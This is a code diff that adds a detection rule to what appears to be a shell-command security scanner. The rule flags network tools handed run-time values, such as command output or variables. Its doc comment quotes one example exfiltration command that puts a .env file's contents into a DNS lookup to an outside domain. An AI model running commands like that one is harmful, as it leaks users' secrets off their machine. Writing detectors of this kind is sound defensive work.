@@ -36,6 +36,21 @@ export function text(word: ShellWord): string {
   return word.value ?? word.raw;
 }
 
+/**
+ * A word decided at run time (`$(...)`, `$VAR`, xargs input) given to a program that talks to the network: command
+ * output or a variable's value leaves the machine in a URL, header, host or DNS name (`dig $(cat .env).example.net`).
+ */
+export function runtimeNetworkData(name: string, args: readonly ShellWord[]): Finding | undefined {
+  const word = args.find((arg) => arg.value === undefined);
+  return word
+    ? finding(
+        'MEDIUM',
+        'network-runtime-data',
+        `${name} sends ${word.raw.slice(0, 60)}, decided at run time, over the network`,
+      )
+    : undefined;
+}
+
 /** A word that stands for an argument nobody knows yet (xargs input, find's `{}`). */
 export function unknownWord(raw: string): ShellWord {
   return { value: undefined, raw, pattern: false, obfuscated: false };
